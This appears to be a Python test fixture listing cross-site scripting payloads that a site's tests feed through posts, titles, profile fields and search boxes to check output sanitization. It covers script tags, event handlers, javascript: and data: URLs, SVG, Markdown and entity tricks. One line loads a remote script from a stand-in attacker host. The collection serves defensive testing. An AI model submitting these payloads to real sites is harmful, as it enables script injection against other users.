"""Script-injection payloads for tests that feed user input through the site.

Each string is something a person could type into a post, a title, a profile field or a
search box. Tests send them through the real forms and then check the pages and feeds with
`tests.security.markup.assert_no_executable_markup`. Other apps' tests import this list.
"""

XSS_PAYLOADS: list[str] = [
    # Script tags, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="/x" onerror="alert(1)">',
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=/ onclick=alert(1)>click</a>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    # javascript:, vbscript: and data: URLs
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<form action='javascript:alert(1)'><button>go</button></form>",
    "<button formaction='javascript:alert(1)'>go</button>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x='0' y='20'>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    # Malformed and nested tags
    "<img src=x onerror=alert(1)//",
    "<<script>alert(1)//<</script>",
    "<img/src='x'/onerror=alert(1)>",
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<link rel=stylesheet href='javascript:alert(1)'>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Markdown link and image tricks
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](/x "onerror=alert(1)")',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x]: javascript:alert(1)\n\n[click][x]",
    "<javascript:alert(1)>",
    "[a](<javascript:alert(1)>)",
    '[a](/ "title" onclick="alert(1)")',
    "```\n</code></pre><script>alert(1)</script>\n```",
    # HTML entities
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    # Maths: LaTeX that tries to become a link
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\href{javascript:alert(1)}{click}$$",
]
